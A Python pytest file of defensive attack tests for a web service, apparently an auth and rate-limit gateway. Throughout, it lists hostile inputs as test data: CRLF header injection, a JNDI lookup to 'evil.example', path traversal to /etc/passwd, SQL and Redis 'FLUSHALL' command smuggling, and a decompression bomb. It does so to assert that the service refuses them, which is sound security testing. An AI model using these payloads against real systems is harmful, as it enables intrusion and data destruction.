"""Requests that would rather be something else: other headers, other keys, other files, other people's pages."""

import re
from typing import Any
from urllib.parse import quote

import pytest
from aiohttp.compression_utils import ZLibDecompressor

from service.web import app_keys
from tests.attacks import raw_http as wire
from tests.attacks.conftest import COOKIE, Attack, Launch, Target, of
from tests.attacks.operating import ADMIN, DASHBOARD, bearer, log_in, wishes
from tests.attacks.test_bodies import BOUND, MUCH, deflated
from tests.kit import OPERATOR_TOKEN, TENANT_TOKEN, sign

MANY = [{"name": "status-ip", "per": "ip", "requests": 100_000, "window": 60}]
CHANGES: dict[str, Any] = {"limits": {"admin": [], "login": [], "status": MANY, "logout": [], "terminate": []}}
OPERATOR = bearer(OPERATOR_TOKEN)
AT = f"{ADMIN}/tenants/acme"
EVIL = "x-evil: 1"

IDS = [
    *(f"a\n{EVIL}", f"a\r{EVIL}", f"a\r\n {EVIL}", f"a\r\n\r\n<script>{EVIL}", f"a\0{EVIL}"),
    *(f"a%0d%0a{EVIL}", f"a%0a{EVIL}", f"a\\r\\n{EVIL}", f"a\u2028{EVIL}", f"a\x85{EVIL}", f"a\u560d\u560a{EVIL}"),
    *("", " ", "a b", 'a"b', "a'b", "a,b", "a;b", "a/b", "a\\b", "<b>", "{a}", "a=b", "\u00e9", "\uff41", "a\udcff"),
    *("a" * 129, "a" * 9000, '"}, "data": {"success": true}, "x": {"y": "', "${jndi:ldap://evil.example/a}", "%s%n"),
]  # fmt: skip


@pytest.mark.parametrize("given", IDS, ids=range(len(IDS)))
async def test_a_request_id_breaks_out_of_neither_header_nor_body(target: Target, attack: Attack, given: str) -> None:
    for path in ("/auth/status", "/nothing", "/dashboard/nothing", f"{ADMIN}/tenants", "/healthz"):
        answers = await target.exchange(wire.request("GET", path, [*of(sign()), *OPERATOR, ("x-request-id", given)]))
        assert len(wire.statuses(answers)) == 1
        head, _, body = answers.partition(b"\r\n\r\n")
        assert b"evil" not in answers, "neither as it came nor decoded"
        reported = re.findall(rb"(?im)^x-request-id: (.*?)\r?$", head)
        ended = b"|a" if given.startswith("a\r\n\r\n") else b""  # the head ends behind an id that is well-formed
        assert (reported == [] and body == b"") or re.fullmatch(rb"req-[0-9a-f]+" + ended, reported[0])
        assert len(reported) < 2
    attack(f"x-request-id {given!a}", f"{wire.statuses(answers)[0]}, and not echoed")


# --- names --------------------------------------------------------------------------------------------

NAMES = [
    *("{globex}:u:bob", "}:u:bob", "{", "}", ":", "*", "?", "[a-z]*", "u:bob", "events", "rules:bob", "<", "=bob"),
    *("../bob", "..", ".", "%2e%2e", "a/b", "bob/suspend", "bob?x=y", "bob#x", "bob;x", "\\bob", "'; DROP TABLE--"),
    *("\u202ebob", "bob\u0301", "\uff42ob", "BOB", " bob", "bob ", "\U0001f642", "__proto__", "null", "a" * 128),
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
async def test_an_act_on_a_user_reaches_that_user_alone(target: Target, attack: Attack, name: str) -> None:
    assert (await target.ask(fields=of(sign("bob")))).status == 200
    before = await target.redis.get("rc:{acme}:u:bob")
    path = f"{AT}/users/{quote(name, safe='')}"
    for method, end in (("POST", "/suspend"), ("PUT", "/restrictions/status"), ("PUT", "/revocation"), ("GET", "")):
        answer = await target.ask(method, path + end, OPERATOR)
        assert answer.status == 200, (method, end)
    reported = await target.kept()
    assert all(key.startswith("rc:{acme}:") for key in reported)
    assert {key for key in reported if ":u:" in key.removesuffix(name)} <= {"rc:{acme}:u:bob", f"rc:{{acme}}:u:{name}"}
    assert f"rc:{{acme}}:rules:{name}" in reported
    assert (await target.ask("DELETE", path, OPERATOR)).status == 200
    attack(f"user {name!a}", "200, that user alone")
    assert await target.redis.get("rc:{acme}:u:bob") == before


NOBODY = ["a%00b", "a%0ab", "a%0d%0ab", "a%7fb", "a%c2%85b", "a" * 513, "%ED%A0%80\x7f", "%e2%80%a8" * 513]


@pytest.mark.parametrize("name", NOBODY)
async def test_a_name_that_no_user_can_have_is_an_error(target: Target, attack: Attack, name: str) -> None:
    for wish in wishes(target, user=name):
        if name in wish.path:
            answer = await target.ask(wish.method, wish.path, OPERATOR, wish.body)
            assert answer.status in (400, 404), wish
    attack(f"user {name!a}", "400 by every route")
    assert await target.kept() == {}


MARKS = [
    "<",
    "<*",
    "*",
    "=status-ip",
    "status%0a",
    "status%00",
    "a%2fb",
    "{status}",
    "a" * 65,
    "%C3%A9",
    "%20",
    "a%20b",
]


@pytest.mark.parametrize("name", MARKS)
async def test_no_capability_and_no_limit_is_one_of_the_marks_that_redis_keeps(
    target: Target, attack: Attack, name: str
) -> None:
    """`lua/rules.lua` keeps revocations and limits beside the capabilities, under fields that none can be called."""
    for path in (f"{AT}/restrictions/{name}", f"{AT}/users/bob/restrictions/{name}", f"{AT}/limits/{name}"):
        body = b'{"requests": 1, "window": 60}' if "/limits/" in path else b""
        for method in ("PUT", "DELETE"):
            answer = await target.ask(method, path, OPERATOR, body if method == "PUT" else b"")
            assert answer.status in (400, 404), path
    answer = await target.ask("POST", f"{AT}/limits/{name}/reset", OPERATOR, b'{"subject": "127.0.0.1"}')
    attack(f"capability {name}", answer)
    assert answer.status == 404
    assert await target.kept() == {}


SUBJECTS = ["127.0.0.1\\u0000", "*", "{globex}", "a:b", "", "x" * 129, "\\n"]


@pytest.mark.parametrize("subject", SUBJECTS)
async def test_a_quota_is_given_back_within_its_tenant(target: Target, attack: Attack, subject: str) -> None:
    windows = [f"rc:{{{tenant}}}:w:status-ip:127.0.0.1" for tenant in ("acme", "globex")]
    for window in windows:
        await target.redis.set(window, "used up")
    body = f'{{"subject": "{subject}"}}'.encode()
    answer = await target.ask("POST", f"{AT}/limits/status-ip/reset", OPERATOR, body)
    attack(f"quota of {subject!a}", answer)
    assert answer.status in (200, 400)
    assert await target.redis.exists(*windows) == 2, "only what is called exactly so"


# --- files --------------------------------------------------------------------------------------------

ESCAPES = [
    *("../pages.py", "..%2fpages.py", "%2e%2e/pages.py", "%2e%2e%2fpages.py", "....//pages.py", "..;/pages.py"),
    *("..\\pages.py", "..%5cpages.py", "%252e%252e%252fpages.py", "..%c0%afpages.py", "..%ef%bc%8fpages.py", ".."),
    *("/etc/passwd", "%2fetc%2fpasswd", "//etc/passwd", "x/../../pages.py", "../" * 12 + "etc/passwd", "~/.profile"),
    *("%2e%2e%2f" * 12 + "etc%2fpasswd", "../templates/base.html", "file:///etc/passwd", "rollcall.css%00.py", "."),
    *("", "rollcall.css/../../pages.py", "rollcall.css::$DATA", "rollcall.css.gz", "%", "%zz", "\udcff", "x" * 3000),
]  # fmt: skip


@pytest.mark.parametrize("name", ESCAPES)
async def test_no_file_is_read_but_those_that_are_for_everybody(target: Target, attack: Attack, name: str) -> None:
    for root in ("/dashboard/static", "/docs/ui"):
        answer = await wire.ask(target.port, "GET", f"{root}/{name}", OPERATOR)
        assert answer.status in (400, 403, 404)
        assert not re.search(rb"root:|import |\{% |Index of", answer.body)
    attack(f"file {name}", answer)


async def test_a_missing_file_is_reported_and_counted_as_such(target: Target, attack: Attack) -> None:
    async def counted() -> float:
        text = (await target.ask("GET", "/metrics")).body.decode()
        found = re.search(r'rollcall_requests_total\{operation="-",status="404"\} (\S+)', text)
        return float(found[1]) if found else 0

    before = await counted()
    answer = await wire.ask(target.port, "GET", "/dashboard/static/nothing.css")
    attack("a file that is not there", answer)
    assert (answer.status, answer.headers["cache-control"]) == (404, "no-store")
    assert await counted() == before + 1


# --- methods ------------------------------------------------------------------------------------------


METHODS = ["TRACE", "TRACK", "DEBUG", "CONNECT", "PROPFIND", "PURGE", "PATCH", "LINK", "get", "A" * 40]


@pytest.mark.parametrize("method", METHODS)
async def test_a_method_that_nobody_asked_for_echoes_and_does_nothing(
    target: Target, attack: Attack, method: str
) -> None:
    secret = [*of(sign("mallory")), ("cookie", "secret=1"), *OPERATOR]
    for path in ("/auth/status", f"{AT}/users/mallory", "/dashboard/login", "/healthz", "*"):
        answer = await target.ask(method, path, secret)
        assert answer.status in (400, 404, 405)
        assert b"secret" not in answer.body
        assert TENANT_TOKEN.encode() not in answer.body
    attack(f"method {method}", answer)
    assert await target.kept() == {}


# --- caches -------------------------------------------------------------------------------------------

PUBLIC = re.compile(r"/(dashboard/static|docs/ui)/|/openapi.json|/docs$")
"""What is the same for everybody."""


async def test_no_answer_to_one_is_kept_for_another(target: Target, attack: Attack) -> None:
    browser = await log_in(target, OPERATOR_TOKEN)
    paths = {route.resource.canonical for route in target.app.router.routes() if route.resource}
    paths = {re.sub(r"\{\w+\}", "status", path) for path in paths if not PUBLIC.search(path)}
    asked = [*of(sign()), *OPERATOR, *browser.fields]
    paths |= {AT, f"{AT}/sessions?limit=x", f"{AT}.css", f"{DASHBOARD}/tenants/acme", "/auth/status/x.css", "/nothing"}
    paths |= {"/auth/status?x.css", "/%", "/dashboard/x.png", "/auth/verify/x"}
    found: dict[int, int] = {}
    for path in sorted(paths - {f"{ADMIN}/events", f"{DASHBOARD}/events"}):
        for method in ("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS"):
            for fields in (asked, [], [*asked, ("content-length", "3")]):
                raw = wire.request(method, path, fields) + (b"abc" if fields[-1:] == [("content-length", "3")] else b"")
                [status] = wire.statuses(answers := await target.exchange(raw))
                found[status] = found.get(status, 0) + 1
                assert status < 500
                assert b"\r\ncache-control: no-store\r\n" in answers.lower(), (method, path, status)
    attack("every route by six methods", f"no-store on {sum(found.values())} answers: {sorted(found)}")
    assert {200, 303, 400, 401, 404, 405} <= found.keys()


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("what is not HTTP", b"nonsense\r\n\r\n"),
        ("a length that is none", b"GET / HTTP/1.1\r\nhost: a\r\ncontent-length: x\r\n\r\n"),
        ("an expectation that nobody knows", b"GET /auth/status HTTP/1.1\r\nhost: a\r\nexpect: x\r\n\r\n"),
    ],
)
async def test_a_bare_refusal_is_not_kept_either(target: Target, attack: Attack, name: str, raw: bytes) -> None:
    answers = await target.exchange(raw)
    attack(f"{name}, and kept", f"{wire.statuses(answers)[0]}")
    assert wire.statuses(answers)[0] in (400, 417)
    assert b"cache-control: no-store\r\n" in answers.lower()


# --- what grows ----------------------------------------------------------------------------------------


async def test_metrics_and_memory_grow_by_nothing_that_is_sent(target: Target, attack: Attack) -> None:
    gate = target.app[app_keys.REQUEST_SERVICES]

    async def series() -> set[str]:
        text = (await target.ask("GET", "/metrics")).body.decode()
        return {line.rpartition(" ")[0] for line in text.splitlines() if not line.startswith(("#", "rollcall_swept"))}

    async def hostile(number: int) -> None:
        for method, path, fields in (
            ("GET", f"/path{number}", of("x")),
            (f"M{number}"[:2], "/auth/status", []),
            ("GET", "/auth/status", of(f"token{number}", f"tenant{number}")),
            ("GET", f"{ADMIN}/tenants/t{number}", OPERATOR),
            ("GET", f"{AT}/limits/l{number}?subject=s{number}", OPERATOR),
            ("GET", f"/auth/verify/{number}", [("x-original-uri", f"/{number}"), ("x-original-method", f"M{number}")]),
            ("GET", f"/dashboard/{number}", [("cookie", f"{COOKIE}={number}")]),
        ):
            await target.ask(method, path, fields)

    await series()  # it counts itself
    await hostile(0)
    before, kept, tokens = await series(), set(await target.keys()), len(gate.verified)
    for number in range(1, 30):
        await hostile(number)
    attack("30 of everything", "the same series, keys and tokens")
    assert await series() == before
    # The sweep writes its own keys when it is due, whatever the requests are.
    own = "pulse|refused|sweeper|events|^rc:tenants$"
    assert {key for key in await target.keys() if not re.search(own, key)} <= kept
    assert len(gate.verified) == tokens


@pytest.mark.parametrize(
    "path", ["/auth/status", "/auth/logout", "/nothing", "/healthz", "/dashboard", f"{ADMIN}/tenants"]
)
async def test_a_bomb_that_nobody_reads_is_not_unpacked(
    target: Target, attack: Attack, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    unpacked, unpack = 0, ZLibDecompressor.decompress_sync

    def counting(self: ZLibDecompressor, *args: Any, **kwargs: Any) -> bytes:
        nonlocal unpacked
        content = unpack(self, *args, **kwargs)
        unpacked += len(content)
        return content

    monkeypatch.setattr(ZLibDecompressor, "decompress_sync", counting)
    answer = await target.ask("POST", path, [("content-encoding", "deflate")], deflated(bytes(MUCH)))
    attack(f"a bomb at {path}", f"{wire.described(answer)}, {unpacked} bytes unpacked")
    assert answer.status in (400, 401, 404, 405, 415)
    assert unpacked <= BOUND


# --- what a proxy would send ---------------------------------------------------------------------------


async def test_a_peer_that_is_not_a_trusted_proxy_cannot_ask_about_a_request(launch: Launch, attack: Attack) -> None:
    routes = [{"path": "/public/*", "open": True}, {"path": "/*", "capability": "api"}]
    target = await launch(routes=routes, server={"trusted_proxies": ["10.0.0.0/8"]})
    reported = [("x-original-uri", "/public/x"), ("x-original-method", "GET")]
    reported += [("x-forwarded-uri", "/public/x"), ("x-forwarded-method", "GET"), ("x-forwarded-for", "10.0.0.1")]
    for path in ("", "/nginx", "/haproxy", "/traefik", "/caddy", "/envoy/public/x"):
        answer = await target.ask("GET", f"/auth/verify{path}", reported)
        attack(f"/auth/verify{path} by anybody", answer)
        assert (answer.status, answer.code) in [
            (400, "BAD_REQUEST"),
            (401, "MISSING_TENANT_TOKEN"),
            (403, "BAD_REQUEST"),
        ]
        assert "x-auth-user" not in answer.headers


PLACES = [
    *("\u0663-\u0663", "1-\uff11", "1-1\n", "-1", "1", "1-", "-", "$", ">", "+", "*", "(1-1", "1-1 1-2", "0x1-1"),
    *("1" * 16 + "-1", "1-" + "9" * 20, "1-1;FLUSHALL", "999999999999999-18446744073709551616", "\udcff", "a" * 5000),
]  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
async def test_a_wrong_last_event_id_is_an_error_before_anything_is_sent(
    target: Target, attack: Attack, place: str
) -> None:
    browser = await log_in(target, OPERATOR_TOKEN)
    for path, fields in ((f"{ADMIN}/events", OPERATOR), (f"{DASHBOARD}/events", browser.fields)):
        raw = wire.request("GET", f"{path}?tenant=acme", [*fields, ("last-event-id", place)])
        assert wire.statuses(await target.exchange(raw)) == [400], "one answer"
    attack(f"last-event-id {place!a}", "400")
